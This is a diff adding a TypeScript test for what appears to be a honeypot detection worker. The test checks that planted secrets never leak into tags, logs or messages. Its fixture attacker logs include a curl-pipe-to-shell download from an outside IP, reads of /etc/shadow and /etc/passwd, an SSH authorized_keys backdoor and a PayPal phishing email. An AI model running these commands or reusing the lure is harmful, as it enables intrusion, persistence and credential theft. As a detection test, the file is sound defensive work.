@@ -1,0 +1,146 @@
+import { fileURLToPath } from "node:url";
+import type { EventKind } from "@tyr/contract";
+import { pino } from "pino";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { createBus, createTopicBus } from "#platform/bus";
+import { systemClock } from "#platform/clock";
+import { openTestDatabase, type TestDatabase } from "#platform/testing";
+import { EVIDENCE_KEYS } from "./evidence.ts";
+import { readRuleFiles } from "./rule-files.ts";
+import { buildRulePack } from "./rule-pack.ts";
+import { storeLines } from "./testing/stored-log.ts";
+import { DetectWorker } from "./worker.ts";
+
+/** Each stands for something that must be found nowhere behind the events. */
+const PLANTED = {
+  password: "pw-c4n4ry-1",
+  commandSecret: "cmd-c4n4ry-2",
+  urlToken: "url-c4n4ry-3",
+  headerValue: "hdr-c4n4ry-4",
+  recipient: "rcpt-c4n4ry-5",
+  body: "body-c4n4ry-6",
+  subject: "subj-c4n4ry-7",
+  fileContent: "file-c4n4ry-8",
+  fileName: "name-c4n4ry-9",
+  mailAccount: "acct-c4n4ry-10",
+} as const;
+
+const base64 = (text: string): string => Buffer.from(text).toString("base64");
+const cowrie = (eventid: string, more: Readonly<Record<string, unknown>>): string =>
+  JSON.stringify({
+    eventid: `cowrie.${eventid}`,
+    timestamp: "2026-02-01T10:00:00.000000Z",
+    src_ip: "203.0.113.7",
+    session: "a1",
+    sensor: "decoy",
+    ...more,
+  });
+const MESSAGE = [
+  `Subject: ${PLANTED.subject} urgent wire transfer`,
+  `From: "PayPal Service" <no-reply@pay-pal.example>`,
+  `X-Mailer: ${PLANTED.headerValue}`,
+  "Content-Type: text/html",
+  "",
+  `<a href="http://203.0.113.9/login?${PLANTED.urlToken}">${PLANTED.body}</a>`,
+].join("\r\n");
+
+const LINES = [
+  ...Array.from({ length: 12 }, () => cowrie("login.failed", { username: "root", password: PLANTED.password })),
+  cowrie("login.success", { username: `${PLANTED.mailAccount}@corp.example`, password: PLANTED.password }),
+  cowrie("command.input", {
+    input: `curl -u admin:${PLANTED.commandSecret} https://198.51.100.9/x.sh?${PLANTED.urlToken} | sh; cat /etc/shadow`,
+  }),
+  cowrie("command.input", {
+    input: `echo ${PLANTED.fileContent} >> ~/.ssh/authorized_keys; mysql -p${PLANTED.password}`,
+  }),
+  JSON.stringify({
+    timestamp: "2026-02-01T10:00:05Z",
+    event_type: "file_captured",
+    src_ip: "203.0.113.7",
+    orig_path: `/srv/${PLANTED.fileName}.jpg`,
+    prefix: base64(`MZ ${PLANTED.fileContent}`),
+    size: 16,
+  }),
+  JSON.stringify({
+    topic: "canary.tok_43.triggered",
+    timestamp: "2026-02-01T10:00:06Z",
+    src_ip: "203.0.113.7",
+    token_type: "http",
+    user_agent: PLANTED.headerValue,
+    request_path: `/c/y?${PLANTED.urlToken}`,
+  }),
+  `203.0.113.7 - - [01/Feb/2026:10:00:01 +0000] "GET /.env?token=${PLANTED.urlToken} HTTP/1.1" 404 153 "http://a/?${PLANTED.urlToken}" "sqlmap ${PLANTED.headerValue}"`,
+  `203.0.113.7 - - [01/Feb/2026:10:00:02 +0000] "GET /../../etc/passwd?${PLANTED.urlToken} HTTP/1.1" 200 153 "-" "Nikto ${PLANTED.headerValue}"`,
+  JSON.stringify({
+    timestamp: "2026-02-01T10:00:03Z",
+    event_type: "message_stored",
+    src_ip: "203.0.113.7",
+    server_domain: "mail.decoy.example",
+    rcpt_to: [`${PLANTED.recipient}@victim.example`],
+    raw_message: base64(MESSAGE),
+    attachments: [{ name: `${PLANTED.fileName}.docm`, sha256: "ab".repeat(32), macro: true }],
+  }),
+  JSON.stringify({
+    topic: "canary.tok_42.triggered",
+    timestamp: "2026-02-01T10:00:04Z",
+    src_ip: "203.0.113.7",
+    token_type: "fingerprint_html",
+    user_agent: PLANTED.headerValue,
+    headers: { cookie: PLANTED.headerValue },
+    request_path: `/c/x?${PLANTED.urlToken}`,
+    fingerprint: { nav: { webdriver: true, userAgent: PLANTED.headerValue, platform: "Win32" }, scr: { w: 1 }, tz: {} },
+  }),
+];
+
+/** Each matches all of its kind, and asks for every key that kind declares. */
+const CATEGORIES = {
+  command: "command",
+  auth_attempt: "authentication",
+  http_request: "webserver",
+  email: "email",
+  canary: "canary",
+  canary_fingerprint: "canary_fingerprint",
+  payload: "payload",
+} as const satisfies Partial<Record<EventKind, string>>;
+const GREEDY = Object.entries(CATEGORIES).map(([kind, category], index) => ({
+  path: `${kind}.yml`,
+  text: `title: Greedy ${kind}
+id: 00000000-0000-4000-8000-${String(index).padStart(12, "0")}
+logsource: { category: ${category} }
+tags: [attack.credential-access, attack.t1110]
+tyr: { confidence: 0.9, evidence: [${EVIDENCE_KEYS[kind as EventKind].join(", ")}], phrase: did something }
+detection: { selection: { source.ip|exists: true }, condition: selection }
+`,
+}));
+
+let database: TestDatabase;
+beforeAll(async () => void (database = await openTestDatabase("pglite")));
+afterAll(async () => await database[Symbol.asyncDispose]());
+
+test("secrets, recipients, bodies, header values, file contents and URLs stay in the events: no tag, line of the log or message has one", async () => {
+  const shipped = readRuleFiles(fileURLToPath(new URL("../../../../../rules", import.meta.url)));
+  const rules = buildRulePack([...shipped.files, ...GREEDY]);
+  expect(rules.rejected).toEqual([]);
+  const { events } = await storeLines(database.db, LINES, "planted");
+  for (const key of ["password", "commandSecret", "urlToken", "headerValue", "recipient", "fileName"] as const)
+    expect([key, JSON.stringify(events).includes(PLANTED[key])]).toEqual([key, true]);
+
+  const told: string[] = [];
+  const log = pino({ level: "trace" }, { write: (line: string) => void told.push(line) });
+  const bus = createBus(systemClock);
+  bus.subscribe((message) => void told.push(JSON.stringify(message)));
+  const topics = createTopicBus({ clock: systemClock, log });
+  topics.subscribe("ttp.>", (envelope) => void told.push(JSON.stringify(envelope)));
+  const ignore = (): undefined => undefined;
+  const quiet = { onLoss: ignore, onDetected: ignore, onRefused: ignore, onStep: ignore };
+  const worker = new DetectWorker({ database: database.db, clock: systemClock, bus, topics, log, rules }, quiet);
+  while (await worker.step());
+
+  const tags = await database.db.read.selectFrom("tag").selectAll().execute();
+  const hours = await database.db.read.selectFrom("tag_hour").selectAll().execute();
+  const kinds = new Set(tags.filter((tag) => tag.rule_id.startsWith("00000000")).map((tag) => tag.source_kind));
+  expect([...kinds].toSorted()).toEqual(Object.keys(CATEGORIES).toSorted());
+  expect(told.some((line) => line.includes("ttp.tagged"))).toBe(true);
+  const written = JSON.stringify([tags, hours, told, await database.records()]);
+  for (const [what, text] of Object.entries(PLANTED)) expect([what, written.includes(text)]).toEqual([what, false]);
+});
